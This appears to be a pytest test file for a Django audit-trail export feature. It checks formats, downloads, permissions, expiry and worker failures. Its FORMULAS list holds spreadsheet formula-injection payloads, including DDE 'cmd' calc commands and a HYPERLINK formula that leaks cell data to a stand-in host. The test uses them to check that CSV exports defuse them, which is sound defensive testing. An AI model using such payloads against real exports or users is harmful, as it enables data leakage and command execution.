"""Exports of the trail: asked for, written by a worker, downloaded in parts, for who asked alone, for some days."""

import csv
import hashlib
import io
import json
import threading
import zipfile
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from arro3.io import read_parquet
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from apps.accounts.models import User
from apps.audit import actions as audit
from apps.audit.actors import SYSTEM
from apps.audit.export import COLUMNS
from apps.audit.filters import TrailFilter
from apps.audit.models import AuditEvent
from apps.compliance import actions
from apps.compliance.export_transitions import StaleExport
from apps.compliance.exports import files, run
from apps.compliance.exports.run import see_to_exports
from apps.compliance.models import AuditExport
from apps.core.platform import PLATFORM_WORKSPACE_ID
from apps.workspaces.models import Membership
from apps.workspaces.scope import workspace_scope
from tests.cast import NOW, Cast
from tests.processes import eventually, start_worker

pytestmark = pytest.mark.django_db(transaction=True)
LIST = "/compliance/exports/"
# What a spreadsheet would run, or might after it has taken blanks, controls or quotes away.
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%", "−", "﹦")  # noqa: RUF001  look-alikes are what is tested
FORMULAS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f" {sign}1+1" for sign in SIGNS),
    *(f"\t{sign}1" for sign in SIGNS[:4]),
    *(f"\r{sign}1" for sign in SIGNS[:4]),
    *(f"\n{sign}1" for sign in SIGNS[:4]),
    *(f'"{sign}1"' for sign in SIGNS[:4]),
    *(f"'{sign}1" for sign in SIGNS[:4]),
    *(f"{blank}=1+1" for blank in "\u00a0\u200b\ufeff\u3000\u2007\x0b\x0c\u0085“`"),
    '=HYPERLINK("http://x?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t", "\r\n",
    "\x1f=1", '=IMPORTXML("http://x","//a")', "-2+3+cmd|' /C calc'!A0", '"\t=1"', "  \t =1",
]  # fmt: skip


def record(summary: str = "Something happened", **fields: Any) -> str:
    with workspace_scope([fields.get("workspace_id", PLATFORM_WORKSPACE_ID)]):
        usual = {"kind": "release.sealed", "by": SYSTEM, "target": None, "summary": summary}
        return str(audit.record(**(usual | fields)))


@pytest.fixture(autouse=True)
def kept_in(settings: Any, tmp_path: Path) -> None:
    settings.EXPORT_DIR = tmp_path / "exports"


@pytest.fixture
def reading(client: Client, auditor: User) -> Client:
    client.force_login(auditor)
    return client


def ask(client: Client, form: str, **asked: str) -> AuditExport:
    answer = client.post(LIST, {"format": form, **asked})
    assert answer.status_code == 302, answer.content[:2000]
    return again(answer.url.rstrip("/").rsplit("/", 1)[1])


def again(key: object) -> AuditExport:
    with workspace_scope([PLATFORM_WORKSPACE_ID]):
        return AuditExport.objects.select_related("asked_by", "token").get(pk=key)


def taken(client: Client, form: str, **asked: str) -> tuple[AuditExport, bytes]:
    export = ask(client, form, **asked)
    see_to_exports()
    answer = client.get(f"{LIST}{export.pk}/file")
    assert answer.status_code == 200
    return again(export.pk), b"".join(answer.streaming_content)


def kinds() -> list[str]:
    with workspace_scope([PLATFORM_WORKSPACE_ID]):
        found = AuditEvent.objects.filter(target_type="auditexport").order_by("recorded_at", "event_id")
        return list(found.values_list("kind", flat=True))


def test_csv_holds_every_event_and_no_live_formula(reading: Client) -> None:
    assert len(FORMULAS) >= 60
    with workspace_scope([PLATFORM_WORKSPACE_ID]):
        for formula in FORMULAS:
            audit.record("release.sealed", by=SYSTEM, target=None, summary=formula, reason=formula)
    harmless = ["Sealed 1.4.2", "a=b", "", "ünïcode", "1-1"]
    for text in harmless:
        record("Harmless", kind="release.retired", reason=text)

    export, data = taken(reading, "CSV", kind="release")
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))

    risky = [row for row in rows if row["kind"] == "release.sealed"]
    assert [row["summary"] for row in reversed(risky)] == [f"'{formula}" for formula in FORMULAS]
    assert [row["reason"] for row in reversed(risky)] == [f"'{formula}" for formula in FORMULAS]
    assert sorted(row["reason"] for row in rows if row["kind"] == "release.retired") == sorted(harmless)
    assert (export.rows, export.bytes, export.sha256) == (len(rows), len(data), hashlib.sha256(data).hexdigest())


def test_json_lines_are_the_stored_bytes(reading: Client) -> None:
    key = record('quotes " and \\ and \n lines, ünïcode', after={"a": "b"})

    export, data = taken(reading, "JSONL", kind="release.sealed")

    with workspace_scope([PLATFORM_WORKSPACE_ID]):
        assert data == bytes(AuditEvent.objects.get(pk=key).canonical) + b"\n"
    assert json.loads(data)["summary"] == 'quotes " and \\ and \n lines, ünïcode'
    assert export.rows == 1


def test_parquet_holds_the_columns_as_they_are(reading: Client) -> None:
    record("=1+1", reason='quotes " and \n lines')
    environment = uuid4()
    record("Second", environment_id=environment)

    export, data = taken(reading, "PARQUET", kind="release.sealed")
    table = read_parquet(data).read_all()
    columns = {name: [value.as_py() for value in table.column(name)] for name in table.column_names}

    assert list(columns) == list(COLUMNS)
    assert columns["summary"] == ["Second", "=1+1"]
    assert columns["reason"] == [None, 'quotes " and \n lines']
    assert columns["environment_id"] == [str(environment), None]
    assert columns["recorded_at"][0].utcoffset() == timedelta(0)
    assert export.rows == 2


def test_a_bundle_is_of_one_workspace(reading: Client, auditor: User, cast: Cast) -> None:
    _export, data = taken(reading, "BUNDLE", workspace=str(PLATFORM_WORKSPACE_ID))

    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
        assert json.loads(bundle.read("manifest.json"))["asked_by"] == str(auditor)
    with workspace_scope([workspace.pk for workspace in cast.workspaces]):
        trail = TrailFilter({}, workspaces=(cast.platform.pk, cast.customer.pk))
        with pytest.raises(actions.ExportInvalid, match="one workspace"):
            actions.ask_export(trail, form="BUNDLE", by=auditor, now=NOW)


def test_every_step_is_told_with_what_came_of_it(reading: Client, auditor: User) -> None:
    export, data = taken(reading, "CSV", q="needle")

    assert kinds() == ["export.asked", "export.started", "audit.exported", "export.downloaded"]
    with workspace_scope([PLATFORM_WORKSPACE_ID]):
        done = AuditEvent.objects.get(kind="audit.exported")
    assert (done.actor_label, done.change["q"]["after"]) == (str(auditor), "needle")
    assert done.change["sha256"]["after"] == hashlib.sha256(data).hexdigest()
    assert done.causation["export_id"] == str(export.pk)

    manifest = reading.get(f"{LIST}{export.pk}/manifest.json").json()
    assert (manifest["asked_by"], manifest["criteria"], manifest["sha256"]) == (
        str(auditor), {"q": "needle"}, export.sha256,
    )  # fmt: skip
    assert manifest["heads"][0]["workspace_id"] == str(PLATFORM_WORKSPACE_ID)


def test_a_download_goes_on_where_it_broke_off(reading: Client) -> None:
    record()
    export, data = taken(reading, "JSONL", kind="release.sealed")
    rest = {"Range": "bytes=10-", "If-Range": f'"{export.sha256}"'}

    answer = reading.get(f"{LIST}{export.pk}/file", headers=rest)

    assert (answer.status_code, b"".join(answer.streaming_content)) == (206, data[10:])
    with workspace_scope([PLATFORM_WORKSPACE_ID]):
        last = AuditEvent.objects.filter(kind="export.downloaded").first()
    assert last.change["span"]["after"] == f"10-{len(data) - 1}"
    assert reading.get(f"{LIST}{export.pk}/file", headers={"Range": f"bytes={len(data)}-"}).status_code == 416


def test_only_who_asked_and_may_export_still_gets_the_file(
    reading: Client, client: Client, auditor: User, security: User, outsider: User
) -> None:
    export, _data = taken(reading, "CSV")
    page = f"{LIST}{export.pk}/file"

    for other in (security, outsider):
        client.force_login(other)
        assert client.get(page).status_code in (403, 404)
    with workspace_scope([PLATFORM_WORKSPACE_ID]):
        Membership.objects.filter(user=auditor).update(ended_at=NOW, ended_by=auditor)
    client.force_login(auditor)
    assert client.get(page).status_code in (403, 404)


def test_a_file_is_removed_after_its_time(reading: Client, settings: Any) -> None:
    settings.EXPORT_KEEP = timedelta(0)
    export = ask(reading, "CSV")
    see_to_exports()
    assert files.place(export.pk).exists()

    see_to_exports()

    assert (again(export.pk).state, files.place(export.pk).exists()) == ("EXPIRED", False)
    assert reading.get(f"{LIST}{export.pk}/file").status_code == 409
    assert kinds()[-1] == "export.expired"


def test_what_can_not_be_made_changes_nothing(reading: Client) -> None:
    for form in ({"format": "exe"}, {"format": "CSV", "since": "yesterday"}):
        assert reading.post(LIST, form).status_code == 422
    for _ in range(actions.trail_exports.OPEN_AT_ONCE):
        ask(reading, "CSV")
    assert reading.post(LIST, {"format": "CSV"}).status_code == 409
    assert kinds() == ["export.asked"] * actions.trail_exports.OPEN_AT_ONCE


def test_exporting_asks_for_its_own_capability(client: Client, operator: User) -> None:
    client.force_login(operator)

    answer = client.post(LIST, {"format": "CSV"})

    assert answer.status_code == 403
    assert "export the audit trail" in answer.content.decode()


def test_a_cancelled_export_stops_its_worker_and_leaves_nothing(
    reading: Client, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.EXPORT_BEAT = timedelta(milliseconds=20)
    export = ask(reading, "CSV")
    began, go_on = threading.Event(), threading.Event()

    class Slow:
        rows = 0

        def write_to(self, sink: Any) -> None:
            began.set()
            while not go_on.wait(0.05):
                sink.write(b"x")

    monkeypatch.setattr(run, "writer_of", lambda export, now: Slow())
    with ThreadPoolExecutor(1) as pool:
        running = pool.submit(_in_a_thread, see_to_exports)
        assert began.wait(10)
        assert reading.post(f"{LIST}{export.pk}/cancellation/").status_code == 302
        running.result(10)

    assert again(export.pk).state == "CANCELLED"
    assert list(files.place(export.pk).parent.iterdir()) == []
    assert reading.post(f"{LIST}{export.pk}/cancellation/").status_code == 409


def test_a_full_disk_is_told_and_leaves_nothing(
    reading: Client, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    for number in range(60):
        record(f"Entry {number} {'x' * 200}")
    monkeypatch.setattr(files, "part", lambda *_: tmp_path / "full")
    for form in ("CSV", "PARQUET", "BUNDLE"):
        export = ask(reading, form, workspace=str(PLATFORM_WORKSPACE_ID))
        (tmp_path / "full").symlink_to("/dev/full")

        see_to_exports()

        assert (again(export.pk).state, files.place(export.pk).exists()) == ("FAILED", False)
        assert "No space left on device" in reading.get(f"{LIST}{export.pk}/").content.decode()
        assert kinds()[-1] == "export.failed"


def test_of_two_workers_one_writes_it(reading: Client) -> None:
    export = ask(reading, "CSV")

    with ThreadPoolExecutor(2) as pool:
        list(pool.map(lambda _: _in_a_thread(see_to_exports), range(2)))

    assert again(export.pk).state == "DONE"
    assert kinds().count("audit.exported") == 1


def test_race_of_who_cancels_and_who_finishes_has_one_end(reading: Client, auditor: User) -> None:
    """The worker has written all of it when it is cancelled on another connection: nothing is offered."""
    export = ask(reading, "CSV")
    due = run.due()[0]
    token = uuid4()
    mine = run._taken(due, token)
    path = files.part(export.pk, token)
    with run._Beat(mine, token) as beat:
        digest = run._written(mine, path, beat)
    _elsewhere(lambda: _scoped(lambda: actions.cancel_export(again(export.pk), by=auditor, now=NOW)))

    run._finish(mine, token, path, beat, digest)

    assert (again(export.pk).state, files.place(export.pk).exists()) == ("CANCELLED", False)
    with pytest.raises(StaleExport):
        _scoped(lambda: actions.cancel_export(again(export.pk), by=auditor, now=NOW))


@pytest.mark.reliability
def test_another_worker_writes_it_from_scratch_when_one_is_killed(
    reading: Client, settings: Any, redis_url: str, tmp_path: Path
) -> None:
    for number in range(3):
        record(f"Entry {number}")
    export = ask(reading, "JSONL", kind="release.sealed")
    clocks = {
        "EAIP_EXPORT_DIR": str(settings.EXPORT_DIR), "EXPORT_LEASE_SECONDS": "1", "EXPORT_BEAT_SECONDS": "0.2",
        "ENGINE_SWEEP_SECONDS": "0.3",
    }  # fmt: skip
    with start_worker(tmp_path, name="first", environment=clocks | {"EAIP_CRASHPOINT": "export_written"}) as first:
        eventually(lambda: not first.is_running())
    assert again(export.pk).state == "RUNNING"

    with start_worker(tmp_path, name="second", environment=clocks):
        done = eventually(lambda: (found := again(export.pk)).state == "DONE" and found)

    assert (done.rows, done.tries) == (3, 2)
    assert [path.name for path in Path(settings.EXPORT_DIR).iterdir()] == [str(export.pk)]
    assert kinds().count("audit.exported") == 1


def test_what_kills_every_worker_is_given_up(reading: Client) -> None:
    export = ask(reading, "CSV")
    with workspace_scope([PLATFORM_WORKSPACE_ID]):
        AuditExport.objects.filter(pk=export.pk).update(state="RUNNING", tries=run.TRIES)

    see_to_exports()

    assert again(export.pk).state == "FAILED"
    assert "has died 5 times" in reading.get(f"{LIST}{export.pk}/").content.decode()


def test_the_list_costs_the_same_for_one_and_many(reading: Client) -> None:
    taken(reading, "CSV")
    reading.get(LIST)
    with CaptureQueriesContext(connection) as few:
        assert "CSV" in reading.get(LIST).content.decode()
    for _ in range(3):
        taken(reading, "CSV")
    with CaptureQueriesContext(connection) as many:
        reading.get(LIST)

    assert len(few) == len(many)


def test_criteria_keep_the_day_as_it_was_asked(reading: Client) -> None:
    record("Today")
    today = timezone.now().date()

    inside, _ = taken(reading, "JSONL", kind="release.sealed", since=str(today - timedelta(days=1)))
    outside, _ = taken(reading, "JSONL", kind="release.sealed", until=str(today - timedelta(days=2)))

    assert (inside.rows, outside.rows) == (1, 0)


def _in_a_thread(work: Any) -> Any:
    try:
        return work()
    finally:
        connection.close()


def _elsewhere(work: Any) -> Any:
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(_in_a_thread, work).result(20)


def _scoped(work: Any) -> Any:
    with workspace_scope([PLATFORM_WORKSPACE_ID]):
        return work()
